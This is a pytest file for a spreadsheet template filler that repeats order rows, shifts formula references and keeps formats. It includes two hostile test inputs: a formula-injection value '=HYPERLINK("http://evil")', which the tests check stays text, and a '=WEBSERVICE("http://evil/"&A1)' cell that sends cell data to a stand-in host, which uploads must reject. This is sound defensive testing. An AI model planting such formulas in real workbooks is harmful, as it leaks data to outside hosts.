"""Excel templates: rows for lines, sums that follow, formats kept; what is written stays a value."""

import base64
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from dougong.kit.errors import Invalid
from dougong.records.printing import xlsx
from dougong.records.printing.sheet_rows import Here, Repeat, Rows, shifted, translate
from tests.dougong.records.conftest import ORDER, Shop
from tests.dougong.records.test_printing import _clerk, _upload, order

__all__ = ["order"]
MONEY = '"¥"#,##0.00'


def _template() -> openpyxl.Workbook:
    """A quotation: a head, a row for each line, a sum, a note below; a second sheet that counts."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "报价"
    sheet.append(["报价单 {{单号}}", None, None, "{{due}}"])
    sheet.append(["客户", "{{customer.name}}[{{customer.secret}}]"])
    sheet.append(["{{#明细}}{{产品}}", "{{数量}}", "{{单价}}", "=B3*C3", "{{/明细}}"])
    sheet.append(["合计", "=SUM(B3:B3)", None, "=SUM(D3)"])
    sheet.append(["{{#if status = 'lost'}}已丢单{{/if}}"])
    sheet.append(["{{原因}}"])
    sheet.merge_cells("A1:C1")
    sheet.merge_cells("A6:C6")
    sheet["A1"].font = Font(bold=True, size=18)
    sheet["C3"].number_format = MONEY
    sheet["D3"].number_format = MONEY
    sheet.column_dimensions["A"].width = 33
    sheet.row_dimensions[3].height = 27
    sheet.print_area = "A1:D6"
    other = book.create_sheet("核对")
    other["A1"] = "=SUM(报价!D3:D3)+报价!D4"
    book.defined_names["total"] = DefinedName("total", attr_text="报价!$D$4")
    return book


def _bytes(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _marks(tmp_path: Path, book: openpyxl.Workbook) -> list[str]:
    path = tmp_path / "t.xlsx"
    book.save(path)
    return xlsx.marks(str(path))


def _fill(tmp_path: Path, book: openpyxl.Workbook, **document: Any) -> openpyxl.Workbook:
    book.save(tmp_path / "t.xlsx")
    data = tmp_path / "data.json"
    data.write_text(json.dumps([{"values": {}, "rows": {}, "ifs": {}, **document}]), encoding="utf-8")
    assert xlsx.fill(str(tmp_path / "t.xlsx"), str(data), str(tmp_path)) == 1
    return openpyxl.load_workbook(tmp_path / "out1.xlsx")


def test_rows_are_repeated_and_what_names_them_follows(tmp_path: Path) -> None:
    marks = _marks(tmp_path, _template())
    assert marks[3:8] == ["customer.secret", "#明细", "产品", "数量", "单价"] and marks[8] == "/明细"
    lines = [{"产品": {"s": f"P{n}"}, "数量": {"s": "2", "n": 2}, "单价": {"s": "¥1.50", "n": 1.5}} for n in range(3)]
    values = {"due": {"s": "2026-03-05", "d": "2026-03-05", "is": "date"}, "原因": {"s": '=HYPERLINK("http://evil")'}}
    book = _fill(tmp_path, _template(), values=values, rows={"#明细": lines})
    sheet = book["报价"]
    assert [[cell.value for cell in row] for row in sheet["A3:D6"]] == [
        ["P0", 2, 1.5, "=B3*C3"],
        ["P1", 2, 1.5, "=B4*C4"],
        ["P2", 2, 1.5, "=B5*C5"],
        ["合计", "=SUM(B3:B5)", None, "=SUM(D3:D5)"],
    ]
    assert book["核对"]["A1"].value == "=SUM(报价!D3:D5)+报价!D6" and book.defined_names["total"].value == "报价!$D$6"
    assert sheet.print_area == "'报价'!$A$1:$D$7"
    assert {str(each) for each in sheet.merged_cells.ranges} == {"A1:C1", "A7:C7"}
    assert sheet["D5"].number_format == MONEY and sheet.row_dimensions[5].height == 27
    assert sheet.column_dimensions["A"].width == 33 and sheet["A1"].font.size == 18
    assert sheet["D1"].is_date and sheet["D1"].value.isoformat() == "2026-03-05T00:00:00"
    # a value that looks like a formula is text, and stays text
    assert sheet["A7"].data_type == "s" and sheet["A7"].value == '=HYPERLINK("http://evil")'
    with zipfile.ZipFile(tmp_path / "out1.xlsx") as made:
        assert b'fullCalcOnLoad="1"' in made.read("xl/workbook.xml")


def test_without_lines_one_empty_row_stays_and_a_row_taken_out_leaves_no_hole(tmp_path: Path) -> None:
    sheet = _fill(tmp_path, _template(), rows={"#明细": []})["报价"]
    assert [sheet[f"{column}3"].value for column in "ABCD"] == [None] * 4 and sheet["D4"].value == "=SUM(D3)"
    kept = _fill(tmp_path, _template(), rows={"#明细": []}, ifs={"#if status = 'lost'": True})["报价"]
    assert kept["A5"].value == "已丢单" and sheet["A5"].value is None and kept.max_row == sheet.max_row + 1


def test_references_move_as_when_rows_are_inserted() -> None:
    rows = {"a b": Rows([Repeat(3, 3, 4), Repeat(6, 7, 2), Repeat(9, 9, 0)])}
    here = Here("a b")
    assert translate('SUM(A3,$B$6:B7)&"A3"&LOG10(2)&T[A3]&A9', here, rows) == (
        'SUM(A3:A6,$B$9:B12)&"A3"&LOG10(2)&T[A3]&#REF!'
    )
    assert translate("'a b'!A10+'a b'!3:3+other!A3+A6", None, rows) == "'a b'!A14+'a b'!3:6+other!A3+A6"
    assert translate("A6+A7+A3", Here("a b", Repeat(6, 7, 2), 1), rows) == "A11+A12+A3:A6"
    assert translate("SUM(A6)", here, rows) == "SUM(A9,A11)"
    assert shifted("A$1+$B2+XFD1+'A1'!C3", 2, 1) == "B$1+$B4+#REF!+'A1'!D5"


@pytest.mark.parametrize("text", ["{{#明细}}{{产品}}", "{{/明细}}", "{{#a}}{{#b}}{{/b}}{{/a}}", "{{qr: no}}"])
def test_a_template_whose_signs_do_not_fit_is_refused(tmp_path: Path, text: str) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = text
    with pytest.raises(Invalid) as told:
        _marks(tmp_path, book)
    assert told.value.code == "bad_template"


@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_a_record_is_printed_into_a_workbook_under_the_readers_rights(shop: Shop, order: dict[str, Any]) -> None:
    read = _upload(shop, "报价.xlsx", _bytes(_template()))
    assert read.status_code == 200, read.text
    file = {name: read.json()[name] for name in ("name", "content", "marks")}
    assert base64.b64decode(file["content"])[:2] == b"PK" and read.json()["kind"] == "xlsx"
    shop.publish("order", {**ORDER, "prints": [{"key": "sheet", "kind": "xlsx", "label": "报价", "file": file}]})
    url, clerk = f"{shop.records('order')}:print", _clerk(shop)
    made = clerk.browser.post(url, json={"ids": [order["id"]], "template": "sheet"})
    assert made.status_code == 200 and made.headers["content-type"].endswith("spreadsheetml.sheet"), made.text
    sheet = openpyxl.load_workbook(io.BytesIO(made.content))["报价"]
    assert sheet["A1"].value == "报价单 SO00001" and sheet["B2"].value == "华兴[]"
    assert [[cell.value for cell in row] for row in sheet["A3:D4"]] == [
        ["轴承", 2, 50, "=B3*C3"],
        ["齿轮", 1, 20.5, "=B4*C4"],
    ]
    two = clerk.browser.post(url, json={"ids": [order["id"], order["id"]], "template": "sheet"})
    with zipfile.ZipFile(io.BytesIO(two.content)) as archive:
        assert all(name.endswith(".xlsx") for name in archive.namelist()) and len(archive.namelist()) == 2
    calling = _template()
    calling["核对"]["B1"] = '=WEBSERVICE("http://evil/"&A1)'
    assert _upload(shop, "a.xlsx", _bytes(calling)).json()["code"] == "bad_template"
    assert _upload(shop, "a.xlsm", _bytes(_template())).json()["code"] == "bad_template"
